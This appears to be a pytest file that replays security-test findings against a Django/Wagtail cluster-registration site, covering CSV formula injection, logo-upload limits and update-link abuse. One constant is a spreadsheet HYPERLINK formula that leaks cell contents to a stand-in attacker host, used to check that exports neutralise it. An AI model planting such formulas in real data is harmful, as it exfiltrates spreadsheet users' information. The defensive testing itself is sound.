"""The security test of 7 December 2026: each finding's request, made as the attacker did,
and what the site now answers (docs/reliability.md lists them)."""

import csv
import io

import pytest

from clusterdirectory.models import ClusterRegistration
from tests.factories import IndustryTagFactory
from tests.plugin.test_registration import register_url, valid_data

pytestmark = pytest.mark.django_db

FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak="&A2,"click me")'


@pytest.fixture
def tags(db):
    return [IndustryTagFactory(name="Wind energy")]


def csv_rows(response):
    content = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(content)))


def test_admin_csv_exports_neutralise_formulas(client, admin_client, cluster_index, tags):
    data = valid_data(tags, name=FORMULA_NAME, contact_name="@SUM(1+1)", city="+x")
    assert client.post(register_url(cluster_index), data).status_code == 303
    assert ClusterRegistration.objects.get().name == FORMULA_NAME  # stored as typed

    response = admin_client.get("/admin/matchpoint/registrations/?export=csv")
    header, row = csv_rows(response)
    cells = dict(zip(header, row, strict=True))
    assert cells["Name of the cluster"] == "'" + FORMULA_NAME
    assert cells["City"] == "'+x"
    assert cells["Contact person"] == "'@SUM(1+1)"

    # Wagtail's own report of pages in moderation lists the draft the registration became.
    response = admin_client.get("/admin/reports/workflow/?export=csv")
    cells = [cell for row in csv_rows(response)[1:] for cell in row]
    assert "'" + FORMULA_NAME in cells
    assert FORMULA_NAME not in cells


def logo_upload(name, fmt="PNG"):
    from tests.plugin.test_registration import image_upload

    return image_upload(fmt, name=name)


def kept_token(response):
    from bs4 import BeautifulSoup

    field = BeautifulSoup(response.content, "html.parser").find("input", {"name": "logo_kept"})
    return field.get("value", "")


def test_logos_of_failed_forms_are_never_stored_among_the_media(
    client, cluster_index, tags, settings
):
    for _try in range(7):
        data = valid_data(tags, consent=None, logo_file=logo_upload("logo.png"))
        response = client.post(register_url(cluster_index), data)
    # Refused posts count: the limit (5 an hour) was reached by the attacker's tries.
    assert response.status_code == 429
    media = settings.MEDIA_ROOT
    assert not media.exists() or not [path for path in media.rglob("*") if path.is_file()]


def test_one_address_keeps_few_logos_and_the_browser_sees_no_path(
    client, cluster_index, tags, settings
):
    import base64
    import json

    settings.CLUSTERDIRECTORY = {"REGISTRATION_RATE_LIMIT": "20/h"}
    tokens = []
    for _try in range(5):
        data = valid_data(tags, consent=None, logo_file=logo_upload("logo.png"))
        response = client.post(register_url(cluster_index), data)
        assert response.status_code == 400
        tokens.append(kept_token(response))
    assert all(tokens[:3]) and tokens[3:] == ["", ""]  # KEPT_LOGOS_PER_ADDRESS: 3 a day
    assert "Please choose the logo again" in response.content.decode()
    signed = json.loads(base64.urlsafe_b64decode(tokens[0].split(":")[0] + "=="))
    assert set(signed) == {"id", "name"} and "/" not in signed["id"]


@pytest.mark.parametrize(
    ("sent_as", "fmt", "stored_as"),
    [("x.pdf", "PNG", ".png"), ("x.eps", "JPEG", ".jpg"), ("x.xbm", "WEBP", ".webp")],
)
def test_a_logo_is_stored_under_the_format_it_has(
    client, cluster_index, tags, sent_as, fmt, stored_as
):
    data = valid_data(tags, logo_file=logo_upload(sent_as, fmt))
    assert client.post(register_url(cluster_index), data).status_code == 303
    stored = ClusterRegistration.objects.get().logo.file.name
    assert stored.startswith("original_images/cluster-nord") and stored.endswith(stored_as)


def test_a_stranger_cannot_use_up_the_owners_update_links(cluster_index, tags):
    """The attacker asks for the cluster's three links of the day; the real manager, asking
    next, still gets one that works (the latest, sent again), and the contact person gets
    one more e-mail an hour at most."""
    import re

    from django.core import mail
    from django.test import Client

    from clusterdirectory.models import ProfileUpdate
    from tests.factories import ClusterPageFactory

    cluster = ClusterPageFactory(parent=cluster_index, contact_email="anna@cewind.example")
    stranger = Client(REMOTE_ADDR="203.0.113.9")
    for _ in range(3):
        assert stranger.post(cluster.url + "update/", {"fax": ""}).status_code == 303

    owner = Client(REMOTE_ADDR="192.0.2.20")
    assert owner.post(cluster.url + "update/", {"fax": ""}).status_code == 303
    link = re.search(r"https?://\S+/update/[\w-]+/", mail.outbox[-1].body).group(0)
    assert owner.get(link).status_code == 200  # it works
    assert ProfileUpdate.objects.count() == 3  # no fourth link was made

    # More asking within the hour sends nothing more to the contact person.
    assert stranger.post(cluster.url + "update/", {"fax": ""}).status_code == 429
    assert len(mail.outbox) == 4


def test_a_link_sent_again_still_ends_a_day_after_it_was_first_sent(
    client, cluster_index, tags, settings
):
    import datetime
    import re

    from django.core import mail
    from django.utils import timezone

    from clusterdirectory.models import ProfileUpdate
    from tests.factories import ClusterPageFactory

    settings.CLUSTERDIRECTORY = {"PROFILE_UPDATE_LINKS_PER_CLUSTER": "1/d"}
    cluster = ClusterPageFactory(parent=cluster_index, contact_email="anna@cewind.example")
    client.post(cluster.url + "update/", {"fax": ""})
    ProfileUpdate.objects.update(requested_at=timezone.now() - datetime.timedelta(hours=23))
    client.post(cluster.url + "update/", {"fax": ""})  # sent again, with a fresh signature
    assert "within 1 hour:" in mail.outbox[-1].body
    link = re.search(r"https?://\S+/update/[\w-]+/", mail.outbox[-1].body).group(0)
    assert client.get(link).status_code == 200
    ProfileUpdate.objects.update(requested_at=timezone.now() - datetime.timedelta(hours=25))
    assert client.get(link).status_code == 410
